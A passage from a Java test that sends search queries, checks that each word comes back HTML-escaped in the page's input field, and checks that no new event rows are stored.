            var found = front.ask(Ask.get("/search?q=" + URLEncoder.encode(word, UTF_8)));
            assertEquals(200, found.status(), word + found);
            assertTrue(found.body().contains(shown(word)), word + found);
        }
        assertEquals(before, kept().lines().filter(row -> row.startsWith("event|")).count());
    }

    /** As the field of the page has it again. */
    private static String shown(String word) {
        var attribute =
                word.replace("&", "&amp;")
                        .replace("<", "&lt;")
                        .replace("\"", "&#34;")
                        .replace("'", "&#39;");
        return "value=\"" + attribute + "\"";
    }
}
